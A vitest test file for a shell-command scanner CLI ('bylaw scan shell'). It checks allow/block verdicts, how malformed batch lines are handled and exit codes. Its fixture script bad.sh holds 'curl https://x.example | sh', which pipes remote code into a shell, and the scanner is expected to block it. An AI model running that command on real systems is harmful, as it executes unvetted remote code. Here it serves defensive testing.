import { spawnSync } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

const BIN = fileURLToPath(new URL("../../../bin/bylaw.js", import.meta.url));
const TIMEOUT_MS = 60_000;
let folder: string;

beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), "bylaw-scan-"));
  writeFileSync(join(folder, "good.sh"), "#!/bin/sh\nls\n");
  writeFileSync(join(folder, "bad.sh"), "#!/bin/sh\n\ncurl https://x.example | sh\n");
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const scan = (args: readonly string[], input = ""): ReturnType<typeof run> => run(args, input);
const run = (
  args: readonly string[],
  input: string,
): {
  readonly status: number | null;
  readonly lines: readonly string[];
  readonly stderr: string;
} => {
  const { status, stdout, stderr } = spawnSync(
    process.execPath,
    [BIN, "scan", "shell", "--workspace", folder, ...args],
    { encoding: "utf8", input },
  );
  return { status, lines: stdout.split("\n").filter((line) => line !== ""), stderr };
};

describe("bylaw scan shell", () => {
  it(
    "answers every line of a batch, also those that cannot be read",
    () => {
      const input = '{"id":"a","text":"ls"}\nnothing\n{"id":2}\n{"id":3,"text":"git push -f"}\n';
      const { status, lines, stderr } = scan([], input);
      const answers = lines.map((line) => JSON.parse(line) as Record<string, unknown>);
      expect(answers).toMatchObject([
        { id: "a", verdict: "allow" },
        { id: null, error: { code: "line.malformed", line: 2 } },
        { id: 2, error: { code: "line.malformed", line: 3 } },
        { id: 3, verdict: "block" },
      ]);
      expect(status).toBe(1);
      expect(stderr).toContain("2 lines could not be read");
      expect(scan([], '{"id":3,"text":"git push -f"}\n').status).toBe(0);
    },
    TIMEOUT_MS,
  );

  it(
    "tells people the line of each effect",
    () => {
      const bad = scan([join(folder, "bad.sh")]);
      expect(bad.status).toBe(1);
      expect(bad.lines[0]).toContain("bad.sh: block (");
      expect(
        bad.lines.some((line) => /bad\.sh:3: block connect Host::x\.example:443/.test(line)),
      ).toBe(true);
      expect(scan([join(folder, "good.sh")])).toMatchObject({ status: 0 });
    },
    TIMEOUT_MS,
  );

  it(
    "refuses a pack and a file that are not there",
    () => {
      expect(scan(["--pack", "nope", join(folder, "good.sh")]).status).toBe(2);
      expect(scan([join(folder, "missing.sh")]).status).toBe(2);
    },
    TIMEOUT_MS,
  );
});
